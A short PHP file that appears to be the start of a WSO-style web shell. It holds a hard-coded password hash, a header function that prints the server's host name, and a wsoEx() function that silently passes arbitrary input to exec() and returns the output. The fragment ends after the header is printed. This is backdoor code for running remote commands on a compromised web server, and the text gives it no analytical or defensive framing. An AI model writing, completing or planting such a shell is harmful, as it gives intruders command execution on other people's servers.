<?php
$auth_pass = "63a9f0ea7bb98050796b649e85481845";
$color = "#df5";
function wsoHeader() {
    echo "<html><head><title>" . $_SERVER['HTTP_HOST'] . "</title></head><body>";
}
function wsoEx($in) {
    $out = '';
    if (function_exists('exec')) { @exec($in, $out); $out = @join("\n", $out); }
    return $out;
}
wsoHeader();
